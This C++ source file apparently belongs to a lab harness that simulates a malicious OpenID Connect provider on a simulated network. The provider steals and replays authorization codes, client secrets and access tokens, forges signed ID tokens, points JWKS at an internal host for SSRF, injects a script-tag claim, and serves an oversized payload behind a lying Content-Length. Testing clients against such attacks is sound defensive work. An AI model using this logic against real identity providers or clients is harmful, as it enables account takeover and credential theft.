// Copyright 2026 The oidclab Authors
// SPDX-License-Identifier: Apache-2.0

#include "adversary/adversary.hpp"

#include "core/id_token.hpp"
#include "jose/jwks.hpp"

namespace oidclab::adversary {

using simnet::HttpRequest;
using simnet::HttpResponse;
using simnet::Method;

std::string_view attack_name(AttackKind kind) {
  switch (kind) {
    case AttackKind::kTokenTheftCode: return "token-theft-code";
    case AttackKind::kTokenTheftImplicit: return "token-theft-implicit";
    case AttackKind::kSsrf: return "ssrf";
    case AttackKind::kInjection: return "injection";
    case AttackKind::kDos: return "dos";
  }
  return "?";
}

AttackKind attack_from_name(std::string_view name) {
  for (auto k : {AttackKind::kTokenTheftCode, AttackKind::kTokenTheftImplicit, AttackKind::kSsrf,
                 AttackKind::kInjection, AttackKind::kDos}) {
    if (attack_name(k) == name) return k;
  }
  fail(ErrorCode::kInvalidArgument, "unknown attack " + std::string(name));
}

Json default_injected_claims() {
  return Json{{"sub", "90342.ASDFJWFA"},
              {"name", "<script>alert(1)</script>"},
              {"preferred_username", "admin"},
              {"email", "bob@malicious.com"},
              {"email_verified", true}};
}

Url AttackProfile::issuer() const { return Url::parse("http://" + domain); }

AttackProfile AttackProfile::make(AttackKind kind, const ProviderMetadata& honest, std::string domain,
                                  std::vector<Url> ssrf_targets) {
  AttackProfile p;
  p.kind = kind;
  p.domain = std::move(domain);
  p.ssrf_targets = std::move(ssrf_targets);
  p.injected_claims = default_injected_claims();
  p.honest_token_endpoint = honest.token_endpoint;
  p.honest_userinfo_endpoint = honest.userinfo_endpoint;

  const Url self = p.issuer();
  ProviderMetadata& m = p.metadata_template;
  m.issuer = self;
  switch (kind) {
    case AttackKind::kTokenTheftCode:
    case AttackKind::kTokenTheftImplicit:
      // Honest registration and login, adversary for everything after.
      m.registration_endpoint = honest.registration_endpoint;
      m.authorization_endpoint = honest.authorization_endpoint;
      m.token_endpoint = self;
      m.userinfo_endpoint = self;
      m.jwks_uri = self;
      break;
    case AttackKind::kSsrf:
    case AttackKind::kInjection:
    case AttackKind::kDos:
      m.registration_endpoint = self.with_path("/register");
      m.authorization_endpoint = self.with_path("/authorize");
      m.token_endpoint = self.with_path("/token");
      m.userinfo_endpoint = self.with_path("/userinfo");
      m.jwks_uri = self.with_path("/jwks");
      break;
  }
  if (kind == AttackKind::kSsrf) {
    if (p.ssrf_targets.empty()) p.ssrf_targets.push_back(Url::parse("http://intranet.client.local/admin"));
    m.jwks_uri = p.ssrf_targets[0];
    if (p.ssrf_targets.size() > 1) m.token_endpoint = p.ssrf_targets[1];
  }
  if (kind == AttackKind::kDos) m.jwks_uri = self.with_path("/huge");
  return p;
}

bool CaptureStore::empty() const {
  return codes.empty() && client_credentials.empty() && access_tokens.empty() && assertions.empty() &&
         ssrf_hits.empty();
}

Json CaptureStore::to_json() const {
  Json creds = Json::array();
  for (const auto& c : client_credentials) {
    creds.push_back(Json{{"client_id", c.client_id}, {"client_secret", c.client_secret}});
  }
  Json hits = Json::array();
  for (const auto& u : ssrf_hits) hits.push_back(u.render());
  return Json{{"codes", codes},
              {"client_credentials", std::move(creds)},
              {"access_tokens", access_tokens},
              {"assertions", assertions},
              {"ssrf_hits", std::move(hits)}};
}

Json Redemption::to_json() const {
  return Json{{"via", via},         {"code", code},       {"access_token", access_token},
              {"id_token", id_token}, {"subject", subject}, {"nonce", nonce}};
}

Json ReplayAttempt::to_json() const {
  return Json{{"assertion", assertion}, {"status", status}, {"error", error}};
}

Adversary::Adversary(AttackProfile profile, std::uint64_t seed)
    : profile_(std::move(profile)), tokens_(seed, "adversary") {
  TokenSource keys(seed, "adversary-signing-key");
  key_ = jose::Key::symmetric("adv-1", keys.next_hex32());
  if (profile_.injected_claims.is_null()) profile_.injected_claims = default_injected_claims();
}

void Adversary::attach(simnet::Network& net) {
  net_ = &net;
  net.register_host(profile_.domain, simnet::HostOwner::kAdversary,
                    [this](const HttpRequest& r) { return handle(r); });
}

std::string Adversary::mint() {
  std::string v = tokens_.next_hex32();
  minted_.insert(v);
  return v;
}

HttpResponse Adversary::handle(const HttpRequest& request) {
  const std::string& path = request.url.path;
  const bool post = request.method == Method::kPost;
  if (!post && path == "/.well-known/webfinger") {
    WebFingerResponse wf;
    wf.subject = param(request.url.query, "resource").value_or("");
    wf.links.push_back({kIssuerRel, profile_.issuer()});
    return HttpResponse::json(wf.to_json());
  }
  if (!post && path == "/.well-known/openid-configuration") {
    return HttpResponse::json(serve_malicious_metadata().to_json());
  }
  if (!post && path == "/huge") return serve_large_payload(request);
  if (post && path == "/register") {
    return HttpResponse::json(Json{{"client_id", mint()}, {"client_secret", mint()}});
  }
  if (!post && path == "/authorize") return authorize(request);
  if (post && (path == "/" || path == "/token")) return capture_token_request(request);
  if (!post && (path == "/userinfo" || (path == "/" && simnet::bearer_token(request.headers)))) {
    return capture_userinfo_request(request);
  }
  if (!post && (path == "/" || path == "/jwks")) return jwks();
  return HttpResponse::text("not found", 404);
}

HttpResponse Adversary::jwks() const { return HttpResponse::json(jose::jwks_to_json({key_})); }

HttpResponse Adversary::authorize(const HttpRequest& request) {
  const Params& q = request.url.query;
  auto redirect = Url::try_parse(param(q, "redirect_uri").value_or(""));
  if (!redirect) return HttpResponse::error(400, ErrorCode::kInvalidRedirectUri);
  const std::string nonce = param(q, "nonce").value_or("");
  Params out;
  if (param(q, "response_type").value_or("code") == "code") {
    std::string code = mint();
    nonces_[code] = nonce;
    out.emplace_back("code", code);
  } else {
    std::string token = mint();
    const std::string sub = subject_for_forgery();
    subjects_[token] = sub;
    out.emplace_back("access_token", token);
    out.emplace_back("token_type", "Bearer");
    out.emplace_back("id_token", issue_forged_id_token(sub, param(q, "client_id").value_or(""), nonce));
  }
  if (auto state = param(q, "state")) out.emplace_back("state", *state);
  out.emplace_back("iss", profile_.issuer().render());
  if (out.front().first == "code") {
    Params merged = redirect->query;
    merged.insert(merged.end(), out.begin(), out.end());
    redirect->query = std::move(merged);
  } else {
    redirect->fragment = std::move(out);
  }
  return HttpResponse::redirect(*redirect);
}

HttpResponse Adversary::forward(const Url& endpoint, const Params& form) {
  return net_->dispatch(HttpRequest::post_form(endpoint, simnet::Principal::kAdversary, form));
}

std::string Adversary::subject_for_forgery() const {
  if (profile_.kind == AttackKind::kInjection) {
    const Json& sub = profile_.injected_claims.contains("sub") ? profile_.injected_claims["sub"] : Json();
    return sub.is_string() ? sub.get<std::string>() : "attacker";
  }
  return learned_sub_.empty() ? "attacker" : learned_sub_;
}

HttpResponse Adversary::capture_token_request(const HttpRequest& request) {
  const Params form = request.form();
  const std::string code = param(form, "code").value_or("");
  std::string client_id = param(form, "client_id").value_or("");
  auto assertion = param(form, "client_assertion");
  if (client_id.empty() && assertion) {
    try {
      client_id = jose::peek_claims(*assertion).value("iss", "");
    } catch (const Error&) {
    }
  }
  const bool own_code = minted_.count(code) > 0;
  if (!code.empty() && !own_code) captures_.codes.push_back(code);

  auto secret = param(form, "client_secret");
  if (secret && !minted_.count(*secret)) captures_.client_credentials.push_back({client_id, *secret});
  if (assertion) captures_.assertions.push_back(*assertion);

  std::string nonce;
  if (own_code) {
    nonce = nonces_[code];
  } else if (net_ && secret && !code.empty()) {
    // Stolen code plus stolen credentials: redeem at the real OP.
    HttpResponse r = forward(profile_.honest_token_endpoint, form);
    auto doc = simnet::parse_json_body(r.body);
    if (r.status == 200 && doc && doc->is_object() && (*doc)["id_token"].is_string()) {
      Redemption red;
      red.via = "token";
      red.code = code;
      red.access_token = doc->value("access_token", "");
      red.id_token = (*doc)["id_token"].get<std::string>();
      try {
        Json claims = jose::peek_claims(red.id_token);
        red.subject = claims.value("sub", "");
        red.nonce = claims.value("nonce", "");
      } catch (const Error&) {
      }
      learned_sub_ = red.subject;
      learned_nonce_ = red.nonce;
      nonce = red.nonce;
      redemptions_.push_back(std::move(red));
    }
  } else if (net_ && assertion && !code.empty()) {
    HttpResponse r = forward(profile_.honest_token_endpoint, form);
    ReplayAttempt attempt{*assertion, r.status, {}};
    if (auto e = simnet::error_code_of(r)) attempt.error = std::string(error_name(*e));
    replays_.push_back(std::move(attempt));
  }

  std::string token = mint();
  const std::string sub = subject_for_forgery();
  subjects_[token] = sub;
  return HttpResponse::json(Json{{"access_token", token},
                                 {"token_type", "Bearer"},
                                 {"expires_in", 3600},
                                 {"id_token", issue_forged_id_token(sub, client_id, nonce)}});
}

HttpResponse Adversary::capture_userinfo_request(const HttpRequest& request) {
  auto token = simnet::bearer_token(request.headers);
  if (!token) return HttpResponse::error(401, ErrorCode::kInvalidToken);
  if (profile_.kind == AttackKind::kInjection) {
    if (!minted_.count(*token)) captures_.access_tokens.push_back(*token);
    return HttpResponse::json(profile_.injected_claims);
  }
  if (minted_.count(*token)) {
    const std::string& sub = subjects_[*token];
    return HttpResponse::json(Json{{"sub", sub}, {"name", sub}, {"preferred_username", sub}});
  }
  captures_.access_tokens.push_back(*token);
  if (net_) {
    // A stolen access token: use it at the real userinfo endpoint and pass
    // the answer through so the client notices nothing.
    HttpResponse r = net_->dispatch(HttpRequest::get(profile_.honest_userinfo_endpoint,
                                                     simnet::Principal::kAdversary,
                                                     {{"Authorization", "Bearer " + *token}}));
    if (r.status == 200) {
      auto doc = simnet::parse_json_body(r.body);
      Redemption red;
      red.via = "userinfo";
      red.access_token = *token;
      if (doc && doc->is_object()) red.subject = doc->value("sub", "");
      learned_sub_ = red.subject;
      redemptions_.push_back(std::move(red));
      return HttpResponse::json(doc ? *doc : Json::object());
    }
  }
  return HttpResponse::json(Json{{"sub", subject_for_forgery()}});
}

HttpResponse Adversary::serve_large_payload(const HttpRequest& request) const {
  HttpResponse r;
  r.headers.emplace_back("Content-Type", "application/json");
  if (request.method == Method::kHead) {
    std::uint64_t declared = profile_.lying_head ? kLyingContentLength : profile_.payload_size;
    r.headers.emplace_back("Content-Length", std::to_string(declared));
    return r;
  }
  r.stream = std::make_shared<simnet::PatternBody>(profile_.payload_size, "{\"keys\":[]}    ");
  return r;
}

std::string Adversary::issue_forged_id_token(const std::string& victim_sub, const std::string& client_id,
                                             const std::string& nonce) {
  IdTokenClaims claims;
  claims.iss = profile_.issuer();
  claims.sub = victim_sub;
  claims.iat = net_ ? net_->now() : 0;
  claims.exp = claims.iat + 3600;
  claims.nonce = nonce;
  claims.aud = {client_id};
  return jose::jws_sign(jose::JoseHeader{}, claims.to_json(), key_);
}

}  // namespace oidclab::adversary
